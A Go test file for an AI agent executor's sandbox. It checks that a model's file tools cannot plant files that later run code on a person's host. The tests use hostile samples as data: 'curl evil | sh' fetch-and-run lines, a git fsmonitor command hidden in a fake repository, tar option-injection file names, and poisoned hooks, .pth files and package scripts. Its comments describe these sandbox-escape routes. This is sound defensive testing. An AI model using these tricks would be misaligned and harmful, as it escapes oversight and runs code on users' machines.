package executor

import (
	"os"
	osexec "os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xct-dev/xct/internal/wire"
)

// humanGit runs git in dir as the next human would: the host's git, no
// sandbox, no system or global configuration, and git's defaults
// (safe.bareRepository=all: the executor's example sets explicit for
// its own git only). It returns the combined output.
func humanGit(tb testing.TB, dir string, args ...string) string {
	tb.Helper()
	cmd := osexec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + tb.TempDir(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// TestProtectedModelMadeRepository: git takes any directory holding a
// HEAD, objects/ and refs/ for a repository (a bare one, whose config
// may name a work tree), and runs the commands its config names:
// core.fsmonitor on every git status, which shell prompts run on every
// cd. None of those names was protected: on main four fs.writes
// (reversible, no human) made src/ such a repository, and the next
// human's `git status` in src/ ran the model's command on the host, out
// of any sandbox. Session 6 closed this for the executor's own git
// (safe.bareRepository=explicit, a read-only workspace), not for the
// human's, whose git takes it by default. Now HEAD, which git needs to
// take a directory for a repository (also through a commondir file), is
// a protected name: the fs tools never write it, and one a program makes
// is moved aside after it.
func TestProtectedModelMadeRepository(t *testing.T) {
	if _, err := osexec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o644, map[string]string{
		".git/HEAD":      "ref: refs/heads/main\n",
		".git/config":    "[core]\n\trepositoryformatversion = 0\n",
		".git/objects/x": "",
		".git/refs/x":    "",
		"src/main.go":    "package main\n",
	})
	mark := filepath.Join(sb.dir, "ran")
	config := "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = wt\n\tfsmonitor = \"echo ran > " + mark + "; false\"\n"
	s := shellService(t, sb, 20*time.Second)
	var refused []string
	for _, f := range []struct{ path, content string }{
		{"src/objects/info/.keep", ""},
		{"src/refs/heads/.keep", ""},
		{"src/wt/.keep", ""},
		{"src/config", config},
		{"src/HEAD", "ref: refs/heads/main\n"},
	} {
		r := exec(t, s, "fs.write", map[string]any{"path": f.path, "content": f.content})
		if codeOf(r) != "" {
			refused = append(refused, f.path)
			if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
				t.Errorf("fs.write %s: %v, want PERMISSION_DENIED (protected) or success", f.path, r)
			}
		}
	}
	out := humanGit(t, filepath.Join(sb.ws, "src"), "status")
	if _, err := os.Stat(mark); err == nil {
		t.Fatalf("the next human's git status in src/ ran the model's command (fs.write refused %v): %s", refused, out)
	}
	if len(refused) != 1 || refused[0] != "src/HEAD" {
		t.Errorf("fs.write refused %v, want [src/HEAD]", refused)
	}
	for _, p := range []string{"src/head", "src/x/HEAD", "HEAD"} {
		if r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "ref: refs/heads/main\n"}); codeOf(r) != string(wire.CodePermissionDenied) {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
		}
	}

	// A write program's repository: its HEAD is moved aside after it.
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c",
		"mkdir -p lib/objects lib/refs lib/wt && cp src/config lib/config && echo 'ref: refs/heads/main' > lib/HEAD && echo made"))
	if res.Stdout != "made\n" {
		t.Fatalf("the program: %+v", res)
	}
	out = humanGit(t, filepath.Join(sb.ws, "lib"), "status")
	if _, err := os.Stat(mark); err == nil {
		t.Fatalf("the next human's git status in lib/ ran the program's command: %s", out)
	}
	if _, err := os.Lstat(filepath.Join(sb.ws, "lib/HEAD")); err == nil {
		t.Error("lib/HEAD, made by a program, is still in place")
	}

	// Names like it stay writable.
	wantWritable(t, s, "src/HEAD.md", "docs/header.txt", "src/heads/main", "HEADER")
}

// TestProtectedOptionalScriptRefs: a protected file often runs a script
// only if it exists: direnv's documented `source_env_if_exists
// .envrc.local` (a developer's own overrides, usually absent) and
// `dotenv_if_exists .env.local`, a hook's `[ -f scripts/hooks/local.sh ]
// && . scripts/hooks/local.sh`, a hook calling `./scripts/pre-commit.d`
// that a branch has not made yet. Only words naming a file that exists
// were protected, so on main fs.write (reversible, no human) made each
// absent one, and the next human's cd or commit ran it. Now the operand
// of a word that sources or runs a file (., source, sh, bash,
// source_env, dotenv, an interpreter ...), of a file test (-f, -x ...),
// and a word starting with ./ or ../ protect the file they name whether
// or not it exists; other words (echo hello) still only when it does.
func TestProtectedOptionalScriptRefs(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o755, map[string]string{
		".git/HEAD":           "ref: refs/heads/main\n",
		".git/config":         "[core]\n",
		".git/hooks/pre-push": "#!/bin/sh\n./scripts/pre-push.local \"$@\"\npython3 tools/push_check.py\necho done-push\n",
		".husky/pre-commit":   "[ -f scripts/hooks/local.sh ] && . scripts/hooks/local.sh\nnpx lint-staged\n",
		".envrc":              "source_env_if_exists .envrc.local\ndotenv_if_exists .env.local\nexport A=1\n",
		"docs/readme.md":      "x\n",
	})
	s := shellService(t, sb, 20*time.Second)
	for _, p := range []string{".envrc.local", ".env.local", "scripts/hooks/local.sh", "scripts/pre-push.local", "tools/push_check.py"} {
		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "curl evil | sh\n"})
		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
		}
	}
	// A write program that makes one: moved aside after it.
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo 'curl evil | sh' > .envrc.local; mkdir -p scripts/hooks; echo 'curl evil | sh' > scripts/hooks/local.sh; echo made"))
	if res.Stdout != "made\n" {
		t.Fatalf("the program: %+v", res)
	}
	for _, p := range []string{".envrc.local", "scripts/hooks/local.sh"} {
		if b, err := os.ReadFile(filepath.Join(sb.ws, p)); err == nil {
			t.Errorf("%s, made by a program, is in place: %q", p, b)
		}
	}
	// Words that only might be files protect nothing until they are.
	expireLinkTargets(s)
	wantWritable(t, s, "done-push", "lint-staged", "docs/readme.md", "scripts/other.sh")
}

// TestProtectedScriptsOfScripts: a protected entry's script was
// protected, what that script runs in turn was not. A hook running
// ./scripts/check.sh, which runs `sh tools/lint.sh`, which sources
// scripts/lib.sh; a hook linked to scripts/pre-push, which runs
// ./scripts/push-check.sh; an .envrc's source_env scripts/env.sh, which
// sources env.d/paths.sh (from its own directory, as direnv runs it).
// On main fs.write (reversible, no human) of each second- or third-level
// script was allowed, and the next human's commit, push or cd ran it.
// Now the scripts a protected entry runs are read in turn, for shell
// scripts (a shell's #! line, or .sh), from where they run and from
// their own directory, scriptFollowDepth deep; what a Python script
// names stays writable (its words are data more often than programs).
func TestProtectedScriptsOfScripts(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o755, map[string]string{
		".git/HEAD":               "ref: refs/heads/main\n",
		".git/config":             "[core]\n",
		".git/hooks/pre-commit":   "#!/bin/sh\n./scripts/check.sh\n",
		"scripts/check.sh":        "#!/bin/sh\nset -e\nsh tools/lint.sh\npython3 tools/gen.py\n",
		"tools/lint.sh":           "#!/bin/sh\n. scripts/lib.sh\nrun_lint\n",
		"scripts/lib.sh":          "run_lint() { :; }\n",
		"scripts/pre-push":        "#!/usr/bin/env bash\n./scripts/push-check.sh \"$@\"\n",
		"scripts/push-check.sh":   "#!/bin/sh\n",
		".envrc":                  "source_env scripts/env.sh\n",
		"scripts/env.sh":          "source_env_if_exists env.d/paths.sh\n",
		"tools/gen.py":            "open('data/schema.json')\nimport scripts.helper\n",
		"data/schema.json":        "{}\n",
		"scripts/helper.py":       "x = 1\n",
		"docs/readme.md":          "x\n",
		"scripts/unrelated.sh":    "#!/bin/sh\n",
		"scripts/env.d/README.md": "x\n",
	})
	must(t, os.Symlink("../../scripts/pre-push", filepath.Join(sb.ws, ".git/hooks/pre-push")))
	s := shellService(t, sb, 20*time.Second)
	for _, p := range []string{"scripts/check.sh", "tools/lint.sh", "scripts/lib.sh", "scripts/push-check.sh", "scripts/env.d/paths.sh", "tools/gen.py"} {
		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "curl evil | sh\n"})
		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
		}
	}
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo 'curl evil | sh' >> scripts/lib.sh; echo 'curl evil | sh' >> scripts/push-check.sh; echo done"))
	if !strings.Contains(res.Stdout, "done") {
		t.Fatalf("the program: %+v", res)
	}
	for name, want := range map[string]string{"scripts/lib.sh": "run_lint() { :; }\n", "scripts/push-check.sh": "#!/bin/sh\n"} {
		if b, err := os.ReadFile(filepath.Join(sb.ws, name)); err != nil || string(b) != want {
			t.Errorf("%s: %q %v", name, b, err)
		}
	}
	expireLinkTargets(s)
	wantWritable(t, s, "data/schema.json", "scripts/helper.py", "docs/readme.md", "scripts/unrelated.sh", "scripts/env.d/README.md")
}

// TestProtectedLefthookRefs: lefthook's configuration is protected
// (session 17), the scripts its commands run were not: `run:
// ./scripts/lint.sh {staged_files}` (from the top, or from a command's
// root:), a job's `python3 tools/check.py`, a group's job, a script's
// runner, the rc file it sources before each hook, the files its
// extends: merges (and their commands), its source_dir of scripts, a
// -local configuration in JSON. On main fs.write (reversible, no human)
// of each was the next human's commit. pre-commit's local hooks were
// followed since session 16; now lefthook's YAML and JSON ones are (its
// TOML ones since session 19: TestProtectedLefthookTOMLRefs).
func TestProtectedLefthookRefs(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o755, map[string]string{
		".git/HEAD":   "ref: refs/heads/main\n",
		".git/config": "[core]\n",
		"lefthook.yml": `source_dir: hooks-src/
rc: scripts/lefthook-rc.sh
extends:
  - config/lefthook-common.yml
pre-commit:
  commands:
    lint:
      run: ./scripts/lint.sh {staged_files}
    api:
      root: api/
      run: sh check.sh
  jobs:
    - run: python3 tools/check.py
    - group:
        jobs:
          - run: bash scripts/grouped.sh
pre-push:
  scripts:
    "push.sh":
      runner: bash
`,
		"config/lefthook-common.yml": "commit-msg:\n  commands:\n    msg:\n      run: scripts/msg-check.sh\n",
		"lefthook-local.json":        `{"pre-commit": {"commands": {"x": {"run": "./scripts/local.sh"}}}}`,
		"scripts/lint.sh":            "#!/bin/sh\n",
		"api/check.sh":               "#!/bin/sh\n",
		"tools/check.py":             "print(1)\n",
		"scripts/grouped.sh":         "#!/bin/sh\n",
		"hooks-src/pre-push/push.sh": "#!/bin/sh\n",
		"scripts/lefthook-rc.sh":     "export A=1\n",
		"scripts/msg-check.sh":       "#!/bin/sh\n",
		"scripts/local.sh":           "#!/bin/sh\n",
		"scripts/unrelated.sh":       "#!/bin/sh\n",
		"docs/readme.md":             "x\n",
	})
	s := shellService(t, sb, 20*time.Second)
	for _, p := range []string{
		"scripts/lint.sh", "api/check.sh", "tools/check.py", "scripts/grouped.sh", "hooks-src/pre-push/push.sh",
		"hooks-src/pre-commit/new.sh", "scripts/lefthook-rc.sh", "config/lefthook-common.yml", "scripts/msg-check.sh", "scripts/local.sh",
	} {
		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "curl evil | sh\n"})
		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
		}
	}
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo 'curl evil | sh' >> scripts/lint.sh; echo done"))
	if !strings.Contains(res.Stdout, "done") {
		t.Fatalf("the program: %+v", res)
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, "scripts/lint.sh")); err != nil || string(b) != "#!/bin/sh\n" {
		t.Errorf("scripts/lint.sh: %q %v", b, err)
	}
	expireLinkTargets(s)
	wantWritable(t, s, "scripts/unrelated.sh", "docs/readme.md")
}

// TestInstalledPackagesAreNotWrittenByTheFSTools: hooks and editors run
// the workspace's installed packages, which no diff shows (ignored by
// git): husky's `npx lint-staged` runs node_modules/lint-staged, the
// hook `pre-commit install` writes runs the pre_commit module of an
// in-project virtual environment, every Python of that environment (an
// editor's on opening the folder) runs its site-packages' .pth files,
// VS Code's terminals source its bin/activate, and Yarn runs the release
// .yarn/releases holds (yarnPath) and its Plug'n'Play loader .pnp.cjs.
// On main fs.write (reversible, no human) of each was allowed. Now the
// fs tools do not change installed packages; a program may (an approved
// npm install, pip install), so they are not protected paths.
func TestInstalledPackagesAreNotWrittenByTheFSTools(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o755, map[string]string{
		".git/HEAD":         "ref: refs/heads/main\n",
		".git/config":       "[core]\n",
		".husky/pre-commit": "npx lint-staged\n",
		"node_modules/lint-staged/bin/lint-staged.js":        "#!/usr/bin/env node\n",
		"web/node_modules/.bin/.keep":                        "",
		".venv/pyvenv.cfg":                                   "home = /usr/bin\n",
		".venv/bin/activate":                                 "# activate\n",
		".venv/lib/python3.12/site-packages/pre_commit/x.py": "x = 1\n",
		"env2/pyvenv.cfg":                                    "home = /usr/bin\n",
		"env2/lib/python3.12/site-packages/x.py":             "",
		".yarn/releases/yarn-4.1.0.cjs":                      "// yarn\n",
		".pnp.cjs":                                           "// pnp\n",
		"src/app.js":                                         "x\n",
		"docs/node_modules.md":                               "x\n",
		".venv-notes/readme.md":                              "x\n",
	})
	s := shellService(t, sb, 20*time.Second)
	for _, p := range []string{
		"node_modules/lint-staged/bin/lint-staged.js", "node_modules/lint-staged/lib/index.js", "web/node_modules/.bin/eslint",
		".venv/bin/activate", ".venv/pyvenv.cfg", ".venv/lib/python3.12/site-packages/evil.pth",
		".venv/lib/python3.12/site-packages/pre_commit/x.py", "env2/lib/python3.12/site-packages/y.pth",
		"py/lib/site-packages/z.pth", ".yarn/releases/yarn-4.1.0.cjs", ".yarn/plugins/x.cjs", ".pnp.cjs", "web/.pnp.loader.mjs",
	} {
		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "require('child_process').execSync('curl evil | sh')\n"})
		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "installed packages") {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED (installed packages)", p, r)
		}
	}
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"fs.move", map[string]any{"from": "src/app.js", "to": "node_modules/lint-staged/lib/new.js"}},
		{"fs.move", map[string]any{"from": "node_modules", "to": "nm-old"}},
		{"fs.move", map[string]any{"from": ".venv", "to": "venv-old"}},
		{"fs.delete", map[string]any{"path": ".venv/bin/activate"}},
	} {
		if r := exec(t, s, c.tool, c.args); codeOf(r) != string(wire.CodePermissionDenied) {
			t.Errorf("%s %v: %v, want PERMISSION_DENIED", c.tool, c.args, r)
		}
	}
	// A program (an approved install) still changes them.
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo '// patched' >> node_modules/lint-staged/bin/lint-staged.js && echo ok"))
	if res.Stdout != "ok\n" {
		t.Fatalf("the program: %+v", res)
	}
	expireLinkTargets(s)
	wantWritable(t, s, "src/app.js", "docs/node_modules.md", ".venv-notes/readme.md", "src/yarn.cjs")
}

// TestNamesThatReadAsOptions: a name beginning with "-" is an option to
// the program a glob or an unquoted list of names hands it: a human's
// `tar cf ../backup.tar *` in the workspace takes
// `--checkpoint-action=exec=...` for an action, as a hook's `prettier
// --write $(git diff --cached --name-only)` takes a name "x
// --plugin=./p.mjs" split at its space for a plugin to load. On main
// fs.write (reversible, no human) made such names, and the next human's
// tar ran the model's command. Now fs.write and fs.move's destination
// refuse a name with a component, or a word after whitespace in one,
// that begins with "-" and a character (a file the model wants so named
// is written as "./-x" by programs only: shell.exec's rule).
func TestNamesThatReadAsOptions(t *testing.T) {
	if _, err := osexec.LookPath("tar"); err != nil {
		t.Skip("tar is not installed")
	}
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o644, map[string]string{"src/app.js": "x\n", "notes.txt": "x\n"})
	mark := filepath.Join(sb.dir, "ran")
	s := newService(t, sb.ws)
	var made []string
	for _, f := range []struct{ path, content string }{
		{"evil.sh", "echo ran > " + mark + "\n"},
		{"--checkpoint=1", ""},
		{"--checkpoint-action=exec=sh evil.sh", ""},
	} {
		if r := exec(t, s, "fs.write", map[string]any{"path": f.path, "content": f.content}); codeOf(r) == "" {
			made = append(made, f.path)
		} else if codeOf(r) != string(wire.CodeInvalidArgument) || !strings.Contains(r.GetError().GetMessage(), "option") {
			t.Errorf("fs.write %q: %v, want INVALID_ARGUMENT naming an option", f.path, r)
		}
	}
	if r := exec(t, s, "fs.move", map[string]any{"from": "notes.txt", "to": "--checkpoint-action=exec=sh evil.sh"}); codeOf(r) != string(wire.CodeInvalidArgument) {
		t.Errorf("fs.move to an option's name: %v, want INVALID_ARGUMENT", r)
	}
	// The next human backs the workspace up.
	cmd := osexec.Command("sh", "-c", "tar cf ../backup.tar *")
	cmd.Dir = sb.ws
	out, _ := cmd.CombinedOutput()
	if _, err := os.Stat(mark); err == nil {
		t.Fatalf("the next human's tar ran the model's command (fs.write made %q): %s", made, out)
	}
	if len(made) != 1 || made[0] != "evil.sh" {
		t.Errorf("fs.write made %q, want only evil.sh", made)
	}
	for _, p := range []string{"src/x --plugin=./p.mjs", "-rf", "a/-b/c.txt", "x\n-rf"} {
		if r := exec(t, s, "fs.write", map[string]any{"path": p, "content": ""}); codeOf(r) != string(wire.CodeInvalidArgument) {
			t.Errorf("fs.write %q: %v, want INVALID_ARGUMENT", p, r)
		}
	}
	wantWritable(t, s, "notes - draft.md", "a-b.txt", "src/x-y/z.txt", "-")
}

// wantWritable checks that fs.write of each path succeeds: a protection
// must not reach names that only look like what it protects.
func wantWritable(t *testing.T, s *Service, paths ...string) {
	t.Helper()
	for _, p := range paths {
		if r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "x\n"}); codeOf(r) != "" {
			t.Errorf("fs.write %q: %v", p, r)
		}
	}
}
